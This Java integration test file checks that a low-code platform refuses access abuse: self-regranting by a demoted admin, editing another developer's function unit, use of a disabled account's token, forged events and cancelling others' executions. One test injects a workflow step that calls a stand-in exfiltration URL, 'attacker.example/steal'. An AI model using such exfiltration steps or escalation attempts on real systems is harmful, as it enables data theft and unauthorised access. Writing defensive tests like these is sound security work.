package io.lowcode.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;

import java.time.Duration;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import io.lowcode.eventschema.EventType;
import io.lowcode.eventschema.SourceModule;
import io.lowcode.eventschema.Topics;
import io.lowcode.eventschema.access.Roles;
import io.lowcode.eventschema.envelope.EventEnvelope;
import io.lowcode.eventschema.payload.FunctionUnitRetired;
import io.lowcode.localstack.testing.EventSender;
import io.lowcode.localstack.testing.TopicReader;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;

/**
 * Taking over what belongs to someone else, on the packaged platform: a demoted admin's live token re-granting itself,
 * a developer editing another developer's function unit, a disabled account's live token, a forged event from the
 * wrong producer, another user's execution — each refused while the services stay live.
 */
class AccessAbuseIT {

    private static final Duration PROPAGATION = Duration.ofSeconds(60);
    private static RunningPlatform platform;

    @BeforeAll
    static void platform() {
        platform = RunningPlatform.shared();
    }

    @Test
    void aDemotedAdminsLiveTokenCannotReGrantItself() {
        RunningPlatform.User demoted = platform.newUser("demoted-admin", List.of(Roles.ADMIN, Roles.USER));
        platform.asAdmin(platform.adminCenter()).contentType(ContentType.JSON).body(Map.of("roles", List.of(Roles.USER)))
                .put("/api/v1/users/" + demoted.id() + "/roles").then().statusCode(200);
        try (HealthWatch ignored = HealthWatch.of(platform, "admin-center")) {
            RunningPlatform.as(demoted.token(), platform.adminCenter()).contentType(ContentType.JSON)
                    .body(Map.of("roles", List.of(Roles.ADMIN, Roles.USER)))
                    .put("/api/v1/users/" + demoted.id() + "/roles").then().statusCode(403)
                    .contentType("application/problem+json").body("type", equalTo("urn:lowcode:problem:forbidden"));
            RunningPlatform.as(demoted.token(), platform.adminCenter()).contentType(ContentType.JSON)
                    .body(Map.of("permission", "function-unit:*:execute"))
                    .post("/api/v1/users/" + demoted.id() + "/permissions").then().statusCode(403);
        }
        platform.asAdmin(platform.adminCenter()).get("/api/v1/users/" + demoted.id()).then()
                .body("roles", equalTo(List.of(Roles.USER))).body("permissions", equalTo(List.of()));
    }

    @Test
    void aDeveloperCannotEditOrPublishAnotherDevelopersUnit() {
        RunningPlatform.User owner = platform.newUser("unit-owner", List.of(Roles.DEVELOPER));
        RunningPlatform.User other = platform.newUser("unit-other", List.of(Roles.DEVELOPER));
        String unit = RunningPlatform.as(owner.token(), platform.workstation()).contentType(ContentType.JSON)
                .body(Map.of("name", "owned", "definition", Map.of("steps", List.of())))
                .post("/api/v1/function-units").then().statusCode(201).extract().jsonPath().getString("id");
        try (HealthWatch ignored = HealthWatch.of(platform, "workstation")) {
            RunningPlatform.as(other.token(), platform.workstation()).contentType(ContentType.JSON)
                    .body(Map.of("definition", Map.of("steps", List.of(Map.of("name", "x", "kind", "http",
                            "url", "https://attacker.example/steal")))))
                    .put("/api/v1/function-units/" + unit).then().statusCode(403)
                    .body("type", equalTo("urn:lowcode:problem:not-owner"));
            RunningPlatform.as(other.token(), platform.workstation()).contentType(ContentType.JSON)
                    .body(Map.of("version", "6.6.6")).post("/api/v1/function-units/" + unit + "/versions").then()
                    .statusCode(403);
        }
        RunningPlatform.as(owner.token(), platform.workstation()).get("/api/v1/function-units/" + unit).then()
                .body("definition.steps", equalTo(List.of())).body("versions", equalTo(List.of()));
        RunningPlatform.as(owner.token(), platform.workstation()).get("/api/v1/function-units/" + unit + "/edits")
                .then().body("by", equalTo(List.of(owner.id())));
    }

    @Test
    void aDisabledAccountsLiveTokenIsRefusedByEveryService() {
        RunningPlatform.User user = platform.newUser("to-disable", List.of(Roles.USER, Roles.DEVELOPER));
        await().atMost(PROPAGATION).untilAsserted(() -> RunningPlatform.as(user.token(), platform.portal())
                .get("/api/v1/me").then().statusCode(200));
        platform.asAdmin(platform.adminCenter()).contentType(ContentType.JSON).body(Map.of("status", "DISABLED"))
                .put("/api/v1/users/" + user.id() + "/status").then().statusCode(200);
        RunningPlatform.as(user.token(), platform.adminCenter()).get("/api/v1/about").then().statusCode(401);
        await().atMost(PROPAGATION).untilAsserted(() -> {
            RunningPlatform.as(user.token(), platform.portal()).get("/api/v1/me").then().statusCode(401);
            RunningPlatform.as(user.token(), platform.workstation()).get("/api/v1/function-units").then().statusCode(401);
        });
    }

    @Test
    void anEventFromTheWrongProducerIsDeadLetteredAndChangesNothing() {
        Workflows flows = Workflows.on(platform, "forgery-witness");
        String unit = flows.deploy("forgery-target", Map.of("steps", List.of(Map.of("name", "ok", "kind",
                "transform", "set", Map.of()))));
        EventEnvelope<FunctionUnitRetired> forged = EventEnvelope.of(EventType.FUNCTION_UNIT_RETIRED, unit,
                        new FunctionUnitRetired(unit, "forgery-target", "1.0.0", "forged", "mallory"))
                .withSource(SourceModule.WORKSTATION); // only the admin center retires units
        try (HealthWatch ignored = HealthWatch.of(platform, "portal");
                EventSender sender = new EventSender(platform.stack().kafka().bootstrapServers());
                TopicReader dlq = new TopicReader(platform.stack().kafka().bootstrapServers(),
                        Topics.FUNCTION_UNIT_EVENTS + ".dlq")) {
            sender.send(forged);
            await().atMost(PROPAGATION).until(() -> dlq.matching(r -> unit.equals(r.key())
                    && "permanent-failure".equals(TopicReader.header(r, "dead-letter-kind"))
                    && "available-functions".equals(TopicReader.header(r, "dead-letter-consumer"))).size() == 1);
        }
        RunningPlatform.as(flows.runner().token(), platform.portal()).get("/api/v1/functions/" + unit).then()
                .statusCode(200);
        String metrics = RestAssured.given().get(platform.management("portal") + "/q/metrics").then().statusCode(200)
                .extract().asString();
        assertThat(metrics).containsPattern("lowcode_events_foreign_source_total\\{[^}]*type=\"function-unit.retired\""
                + "[^}]*} [1-9]");
    }

    @Test
    void aUserCancelsTheirOwnExecutionOthersCannotAndAnAdminCan() {
        Workflows flows = Workflows.on(platform, "cancel-owner");
        String unit = flows.deploy("cancellable", Map.of("steps", List.of(Map.of("name", "hold", "kind", "wait",
                "ms", 30000))));
        String mine = flows.started(unit, Map.of());
        RunningPlatform.as(flows.runner().token(), platform.portal()).post("/api/v1/executions/" + mine
                + "/cancellation").then().statusCode(200).body("status", equalTo("INTERRUPTED"));

        String another = flows.started(unit, Map.of());
        RunningPlatform.User stranger = platform.newUser("cancel-stranger", List.of(Roles.USER));
        RunningPlatform.as(stranger.token(), platform.portal()).post("/api/v1/executions/" + another + "/cancellation")
                .then().statusCode(404);
        platform.asAdmin(platform.portal()).post("/api/v1/executions/" + another + "/cancellation").then()
                .statusCode(200).body("status", equalTo("INTERRUPTED"));
        assertThat(flows.view(another).getString("error")).contains("administrator");
    }
}
